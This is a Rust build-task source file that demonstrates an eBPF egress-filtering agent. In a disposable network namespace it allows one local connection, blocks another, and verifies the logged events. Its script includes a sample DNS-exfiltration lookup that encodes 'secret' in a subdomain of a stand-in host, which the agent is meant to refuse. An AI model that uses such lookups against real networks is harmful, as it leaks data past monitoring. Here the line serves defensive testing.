//! `cargo xtask demo`: one allowed and one blocked connection, a refused DNS lookup, and the
//! events, in a throwaway network namespace that is removed afterwards (on failure and Ctrl-C too).

use std::{
    fs::{self, OpenOptions},
    path::{Path, PathBuf},
    process,
};

use anyhow::{Context as _, Result, bail};

use crate::{
    cmd::{self, Cmd},
    deps, interrupt, sandbox,
};

/// Allows tcp 127.0.0.1:8080 and not 9090.
const ALLOWLIST: &str = "allowlists/demo.yaml";
const ALLOWED_PORT: u16 = 8080;
const BLOCKED_PORT: u16 = 9090;
/// Run under the agent inside the namespace: the blocked curl fails, and `|| true` keeps
/// that from being the demo's exit status (the agent exits with the command's).
/// The third step looks up a name the allowlist does not permit, the way an exfiltrating
/// agent would encode data in a DNS query: the agent's resolver refuses it, and it reaches
/// no server (the namespace has none anyway).
const SCRIPT: &str = "curl -sS --max-time 3 http://127.0.0.1:8080/; \
                      curl -sS --max-time 3 http://127.0.0.1:9090/ || true; \
                      getent hosts 736563726574.exfil.example || echo 'lookup refused'";
const REFUSED_NAME: &str = "736563726574.exfil.example";

/// Builds the agent and runs the demo; needs root.
pub fn run() -> Result<()> {
    crate::require_root(
        "cargo xtask demo needs root (it creates a network namespace and attaches eBPF \
         programs to a cgroup): run it with sudo",
    )?;
    deps::install()?;
    Cmd::cargo()
        .args(["build", "-p", "egress-agent", "--bins"])
        .run()?;
    let agent = crate::target_dir().join("debug").join("egress-agent");
    if !Path::new(ALLOWLIST).is_file() {
        bail!("{ALLOWLIST} is missing");
    }

    // From here on Ctrl-C unwinds through the guards below instead of killing xtask.
    interrupt::catch()?;
    let name = format!("egress-demo-{}", process::id());
    println!();
    println!(
        "demo: network namespace {name}, with web servers on 127.0.0.1:{ALLOWED_PORT} and \
         127.0.0.1:{BLOCKED_PORT} inside"
    );
    let netns = egress_netns::Netns::create(&name)?;
    sandbox::serve_hello(&netns, &[ALLOWED_PORT, BLOCKED_PORT])?;
    interrupt::check()?;
    let events = TempFile::create(std::env::temp_dir().join(format!("{name}-events.jsonl")))?;

    println!();
    println!("demo: curl both under egress-agent with {ALLOWLIST}; expected:");
    println!("  allowed: 127.0.0.1:{ALLOWED_PORT} (rule allow[0] of {ALLOWLIST})");
    println!("  blocked: 127.0.0.1:{BLOCKED_PORT} -> EPERM");
    println!("  refused: DNS lookup of {REFUSED_NAME} (data in a name) -> REFUSED");
    // nsenter, not `ip netns exec`: that also mounts a fresh sysfs over /sys, which hides
    // the cgroup v2 and bpf filesystems the agent needs (docs/KERNEL-NOTES.md).
    let status = Cmd::new("nsenter")
        .arg(format!("--net={}", netns.path().display()))
        .arg(&agent)
        .args(["run", "--allowlist", ALLOWLIST, "--events"])
        .arg(events.path())
        .args(["--", "sh", "-c", SCRIPT])
        .status()?;
    interrupt::check()?;

    let lines = fs::read_to_string(events.path())
        .with_context(|| format!("cannot read {}", events.path().display()))?;
    println!();
    println!("events:");
    for line in lines.lines().filter(|l| !l.trim().is_empty()) {
        println!("  {line}");
    }
    println!();
    if !status.success() {
        bail!("egress-agent failed ({})", cmd::describe(status));
    }
    if denied(&lines, ALLOWED_PORT) {
        bail!("127.0.0.1:{ALLOWED_PORT} was denied, though {ALLOWLIST} allows it");
    }
    if !denied(&lines, BLOCKED_PORT) {
        bail!("no deny event for 127.0.0.1:{BLOCKED_PORT}");
    }
    if !lines.lines().any(|l| {
        l.contains(r#""event":"dns-refused""#)
            && l.contains(&format!(r#""query":"{REFUSED_NAME}""#))
    }) {
        bail!("no dns-refused event for {REFUSED_NAME}");
    }
    println!(
        "demo: ok: {ALLOWED_PORT} answered, {BLOCKED_PORT} was denied and reported, \
         the lookup of {REFUSED_NAME} was refused and reported"
    );
    Ok(())
}

/// Whether an event line reports a denied TCP connection to 127.0.0.1:`port`. The agent
/// writes compact JSON (`serde_json`), so a substring test is exact enough here.
fn denied(events: &str, port: u16) -> bool {
    events.lines().any(|line| {
        line.contains(r#""event":"deny""#)
            && line.contains(r#""dst":"127.0.0.1""#)
            && has_port(line, port)
    })
}

/// `"port":N` with nothing but a non-digit after it (9090 is not 909).
fn has_port(line: &str, port: u16) -> bool {
    let key = format!(r#""port":{port}"#);
    line.match_indices(&key)
        .any(|(at, _)| !line[at + key.len()..].starts_with(|c: char| c.is_ascii_digit()))
}

/// A file created fresh (never an existing one: this runs as root in a shared /tmp),
/// removed on drop.
#[derive(Debug)]
struct TempFile {
    path: PathBuf,
}

impl TempFile {
    fn create(path: PathBuf) -> Result<Self> {
        OpenOptions::new()
            .write(true)
            .create_new(true)
            .open(&path)
            .with_context(|| format!("cannot create {}", path.display()))?;
        Ok(Self { path })
    }

    fn path(&self) -> &Path {
        &self.path
    }
}

impl Drop for TempFile {
    fn drop(&mut self) {
        let _ = fs::remove_file(&self.path);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_deny_events_by_port() {
        let events = concat!(
            r#"{"event":"ready","pid":1}"#,
            "\n",
            r#"{"event":"deny","proto":"tcp","dst":"127.0.0.1","port":9090,"pid":7,"comm":"curl"}"#,
            "\n",
        );
        assert!(denied(events, 9090));
        assert!(!denied(events, 8080));
        assert!(!denied(events, 909));
        assert!(denied(
            r#"{"event":"deny","dst":"127.0.0.1","port":9090}"#,
            9090
        ));
    }
}
